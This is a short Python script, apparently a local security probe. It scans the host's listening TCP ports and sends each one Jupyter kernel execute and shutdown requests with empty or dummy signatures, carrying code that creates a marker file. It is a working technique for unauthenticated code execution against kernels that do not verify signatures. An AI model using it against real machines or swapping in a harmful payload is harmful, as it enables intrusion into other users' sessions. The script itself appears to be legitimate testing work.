"""Sends kernel messages that are unsigned, or signed with nothing, to every TCP port of this host.

The code that they carry makes MARK; prints `PORT answered` for each port that says anything.
"""

# ruff: noqa: T201  printing is its answer

import json
import os
from pathlib import Path

import zmq

ports = set()
for line in Path("/proc/net/tcp").read_text("ascii").splitlines()[1:]:
    local, state = line.split()[1], line.split()[3]
    if state == "0A":
        ports.add(int(local.rpartition(":")[2], 16))

content = {"code": f"open({os.environ['MARK']!r}, 'w')", "silent": False, "store_history": False}
content |= {"user_expressions": {}, "allow_stdin": False}
poller = zmq.Poller()
context = zmq.Context()
context.linger = 0
where = {}
for port in ports:
    for kind in (zmq.DEALER, zmq.PUSH):
        socket = context.socket(kind)
        socket.connect(f"tcp://127.0.0.1:{port}")
        where[socket] = port
        if kind == zmq.DEALER:
            poller.register(socket, zmq.POLLIN)
        for number, message_type in enumerate(("execute_request", "shutdown_request")):
            header = {"msg_id": f"m{number}", "username": "alice", "session": "s", "date": ""}
            header |= {"msg_type": message_type, "version": "5.3"}
            parts = [json.dumps(part).encode() for part in (header, {}, {}, content)]
            for signature in (b"", b"0" * 64):
                socket.send_multipart([b"<IDS|MSG>", signature, *parts], zmq.NOBLOCK)
        if kind == zmq.DEALER:  # a heartbeat sends back each message
            socket.send_multipart([b"", b"ping"], zmq.NOBLOCK)
answered = set()
while found := poller.poll(1500):
    for socket, _ in found:
        text = b" ".join(socket.recv_multipart())
        if where[socket] not in answered:
            answered.add(where[socket])
            print(where[socket], "answered", text[:200])
